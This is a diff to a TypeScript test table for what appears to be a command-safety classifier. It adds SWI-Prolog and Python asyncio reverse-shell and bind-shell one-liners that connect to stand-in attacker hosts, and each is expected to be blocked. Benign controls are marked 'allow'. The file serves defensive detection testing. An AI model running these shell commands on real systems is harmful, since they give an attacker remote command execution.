@@ -139,6 +139,14 @@ const FOREIGN_CODE_ROWS: readonly ClassRow[] = [
     RS,
   ],
   ['groovy -e \'def s=new Socket("evil.example.com",443); def p="sh".execute()\'', RS, RS],
+  // ADR 0761: SWI-Prolog's process_create is a door to the shell.
+  [
+    `swipl -g "tcp_connect('203.0.113.47':4444, S, []), stream_pair(S, I, O), process_create(path(sh), [], [stdin(stream(I)), stdout(stream(O))])" -t halt`,
+    RS,
+    RS,
+  ],
+  [`swipl -g "tcp_connect('evil.example':443, S, []), process_create(path(bash), ['-i'], [])" -t halt`, RS, RS],
+  [`swipl -g "process_create(path(ls), ['-l'], [])" -t halt`, "allow", "allow"],
   ['erl -noshell -eval \'{ok,S}=gen_tcp:connect("203.0.113.7",4444,[]),os:cmd("id")\'', RS, RS],
   ['swipl -g "tcp_connect(localhost:5432,S,[]),close(S)" -t halt', "allow", "allow"],
   ["jrunscript -e 'print(new java.lang.ProcessBuilder(\"ls\").start().waitFor())'", "allow", "allow"],
@@ -172,3 +180,25 @@ const SERVED_DEBUGGERS: readonly ClassRow[] = [
 ];
 
 classTable("debuggers and nodes served to the network under the %s profile", SERVED_DEBUGGERS);
+
+/** ADR 0761: python's asyncio streams joined to a subprocess are a reverse or bind shell without socket or dup2. */
+const ASYNCIO_ROWS: readonly ClassRow[] = [
+  [
+    `python3 -c 'import asyncio as a\nasync def m():\n r,w=await a.open_connection("203.0.113.47",4444)\n while 1:\n  c=await r.readline();p=await a.create_subprocess_shell(c.decode(),stdout=-1,stderr=-2);o,_=await p.communicate();w.write(o)\na.run(m())'`,
+    RS,
+    RS,
+  ],
+  [
+    `python3 -c 'import asyncio\nasync def m():\n r,w=await asyncio.open_connection("203.0.113.47",4444)\n p=await asyncio.create_subprocess_exec("/bin/sh",stdin=-1,stdout=-1)\nasyncio.run(m())'`,
+    RS,
+    RS,
+  ],
+  [
+    `python3 -c 'import asyncio\nasync def h(r,w):\n c=await r.readline();p=await asyncio.create_subprocess_shell(c.decode())\nasyncio.run(asyncio.start_server(h,"0.0.0.0",4444))'`,
+    RS,
+    RS,
+  ],
+  [`python3 -c 'import asyncio; asyncio.run(asyncio.open_connection("localhost", 5432))'`, "allow", "allow"],
+];
+
+classTable("asyncio reverse shells under the %s profile", ASYNCIO_ROWS);
